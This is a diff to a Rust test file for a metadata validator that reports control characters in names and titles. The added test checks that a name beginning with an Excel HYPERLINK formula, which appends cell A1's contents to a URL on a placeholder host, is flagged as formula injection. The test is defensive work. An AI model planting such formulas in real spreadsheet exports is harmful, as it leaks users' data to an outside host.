@@ -177,6 +177,9 @@ fn names_and_titles_with_control_or_direction_characters_are_reported() {
     assert_one_problem(&problems(&nul), "doc_number", "control");
     let broken = ftth_with("name_en = \"FTTH take-up\"", "name_en = \"FTTH\\n[plan]\"");
     assert_one_problem(&problems(&broken), "name_en", "control");
+    // Excel runs a template cell that begins so.
+    let formula = ftth_with("name_en = \"FTTH take-up\"", "name_en = \"=HYPERLINK(\\\"http://x/?\\\"&A1)\"");
+    assert_one_problem(&problems(&formula), "name_en", "formula");
 }
 
 #[test]
